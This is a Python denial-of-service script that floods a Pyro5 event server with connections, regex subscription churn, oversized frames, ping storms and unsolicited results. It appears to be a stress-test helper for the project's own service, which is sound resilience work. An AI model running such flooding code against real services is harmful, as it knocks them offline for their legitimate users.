"""Many connections of one host that keep the service as busy as they can, until this program is ended.

Arguments: the service's URI, the kind of attack, how many connections, and the address to come from. It
prints `attacking` when all are at work. Whatever is answered is thrown away.
"""

from __future__ import annotations

import itertools
import selectors
import socket
import sys
from collections.abc import Iterator

import msgpack
from Pyro5.api import URI

from pyro_events import EVENTSERVER_NAME
from pyro_events.wire.frames import (
    BATCH,
    CONNECT,
    CONNECT_OK,
    INVOKE,
    MSGPACK,
    PING,
    RESULT,
    SERPENT,
    write_frame,
)

PIECE = 1 << 16


def call(method: str, *arguments: object) -> bytes:
    body = msgpack.packb([EVENTSERVER_NAME, method, arguments, {}], use_bin_type=True)
    return write_frame(INVOKE, 0, MSGPACK, 1, body)


def greeting() -> bytes:
    body = msgpack.packb({"handshake": "hello", "object": EVENTSERVER_NAME})
    return write_frame(CONNECT, 0, MSGPACK, 0, body)


def patterns(number: int, target: str) -> Iterator[bytes]:
    """Subscribe and unsubscribe patterns that nobody has asked for before, all the time."""
    for turn in itertools.count():
        fresh = [rf"[a-z]*{number}x{turn}x{each}.{{1,200}}" for each in range(15)]
        yield call("subscribeMatch", fresh, target) + call("unsubscribe", fresh, target)


def batches(number: int, target: str) -> Iterator[bytes]:
    """The same in Pyro batches."""
    for turn in itertools.count():
        entries = [
            [method, [rf"[a-z]*{number}x{turn}x{each}.{{1,200}}", target], {}]
            for each in range(200)
            for method in ("subscribeMatch", "unsubscribe")
        ]
        body = msgpack.packb([EVENTSERVER_NAME, "<batch>", entries, {}])
        yield write_frame(INVOKE, BATCH, MSGPACK, 1, body)


def texts(number: int, target: str) -> Iterator[bytes]:
    """Calls that take long to read."""
    body = repr((EVENTSERVER_NAME, "publish", ("FLOOD", [0] * 20_000), {})).encode()[: 1 << 16]
    while True:
        yield write_frame(INVOKE, 0, SERPENT, 1, body)


def statistics(number: int, target: str) -> Iterator[bytes]:
    """Ask for statistics, in both ways of writing them."""
    body = repr((EVENTSERVER_NAME, "statistics", (), {})).encode()
    while True:
        yield call("statistics") + write_frame(INVOKE, 0, SERPENT, 1, body)


def pings(number: int, target: str) -> Iterator[bytes]:
    """Signs of life."""
    while True:
        yield write_frame(PING, 0, MSGPACK, 0, b"ping") * 1000


def garbage(number: int, target: str) -> Iterator[bytes]:
    """Answers to nothing."""
    while True:
        yield write_frame(RESULT, 0, MSGPACK, 0, msgpack.packb([[]] * 60_000))


class Flood:
    """All connections."""

    def __init__(self, uri: str, source: str) -> None:
        self.address = URI(uri).host, URI(uri).port
        self.source = source
        self.selector = selectors.DefaultSelector()
        self.listener = socket.create_server((source, 0), backlog=1000)
        self.port = self.listener.getsockname()[1]

    def target(self, number: int) -> str:
        return f"PYRO:flood{number}@{self.source}:{self.port}"

    def connect(self) -> socket.socket:
        return socket.create_connection(self.address, 10, (self.source, 0))

    def clients(self, kind: str, count: int) -> None:
        """Clients that flood the service with calls."""
        for number in range(count):
            sock = self.connect()
            sock.sendall(greeting())
            stream = globals()[kind](number, self.target(number % 20))
            self.add(sock, stream)
        self.selector.register(self.listener, selectors.EVENT_READ, greeting_as_subscriber)
        self.run()

    def subscribers(self, kind: str, count: int) -> None:
        """Subscribers that flood the service with what it did not ask for, and come back when they are
        disconnected."""
        sock = self.connect()
        sock.sendall(greeting())
        again = (call("subscribe", "FLOOD", self.target(turn % count)) for turn in itertools.count())
        self.add(sock, again)
        self.selector.register(self.listener, selectors.EVENT_READ, globals()[kind])
        self.run()

    def add(self, sock: socket.socket, stream: Iterator[bytes], first: bytes = b"") -> None:
        sock.setblocking(False)
        self.selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE, [first, stream])

    def run(self) -> None:
        print("attacking", flush=True)
        while True:
            for key, events in self.selector.select():
                if key.fileobj is self.listener:
                    self.accept(key.data)
                else:
                    try:
                        self.go_on(key.fileobj, key.data, events)
                    except BlockingIOError:
                        continue
                    except OSError:
                        self.selector.unregister(key.fileobj)
                        key.fileobj.close()

    def accept(self, kind: object) -> None:
        sock, _ = self.listener.accept()
        meta = {"handshake": "hello", "meta": {"methods": ["events"], "oneway": [], "attrs": []}}
        hello = write_frame(CONNECT_OK, 0, MSGPACK, 0, msgpack.packb(meta))
        self.add(sock, kind(0, ""), hello)

    @staticmethod
    def go_on(sock: socket.socket, data: list, events: int) -> None:
        if events & selectors.EVENT_READ and not sock.recv(1 << 20):
            raise ConnectionResetError
        if events & selectors.EVENT_WRITE:
            rest, stream = data
            if not rest:
                rest = next(stream, b"")
            data[0] = rest[sock.send(rest) :]


def greeting_as_subscriber(number: int, target: str) -> Iterator[bytes]:
    """An answer to the service's greeting, and then nothing."""
    return iter(())


if __name__ == "__main__":
    uri, kind, count, source = sys.argv[1:]
    flood = Flood(uri, source)
    if kind in ("pings", "garbage"):
        flood.subscribers(kind, int(count))
    else:
        flood.clients(kind, int(count))
